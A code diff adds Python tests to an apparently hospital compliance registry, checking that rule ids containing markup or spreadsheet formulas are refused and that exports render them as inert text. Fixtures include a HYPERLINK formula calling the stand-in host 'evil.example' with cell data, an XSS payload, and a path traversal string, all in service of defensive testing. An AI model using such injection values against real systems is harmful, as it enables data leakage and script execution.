@@ -107,3 +107,33 @@ def test_a_trail_head_stated_in_the_future_is_refused(hospital: Hospital, hospit
         anchor.submit_head(hospital, trail_head.make(log, hospital_a.keys, at=datetime(2099, 1, 1, tzinfo=UTC)),
                            actor="t")
     assert not TrailAnchor.objects.exists()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/"&A2,"open")'
+
+
+def test_a_rule_id_that_is_markup_or_a_formula_is_refused(hospital: Hospital, hospital_a: Signed) -> None:
+    for rule in (FORMULA, "<img src=x onerror=alert(1)>", "../../admin", "+1", "@SUM(A1)"):
+        with pytest.raises(intake.Refused, match=r"summary\.rules"):
+            intake.take(hostile(hospital_a, lambda d, r=rule: _rule(d, r)), name="h.tar.gz", via="http",
+                        actor="t", hospital=hospital)
+    assert not Bundle.objects.exists()
+
+
+def test_the_xlsx_heading_is_text_too(hospital: Hospital, hospital_a: Signed) -> None:
+    """The rule columns' heading names the rule ids bundles carry; it was appended raw, so a bundle taken in
+    before ids were checked made a live formula in the regulator's spreadsheet."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from ihcheck.registry.services import exports
+
+    intake.take_file(hospital_a.tar("compliant"), via="cli", actor="t")
+    Bundle.objects.update(rules={FORMULA: "fail", "GD2020-1.2.5-isps": "pass"})  # a row from before the check
+    sheet = load_workbook(io.BytesIO(exports.province_xlsx(actor="t"))).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert FORMULA in [c.value for c in cells]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    text = exports.province_csv(actor="t")
+    assert "'" + FORMULA.replace('"', '""') in text
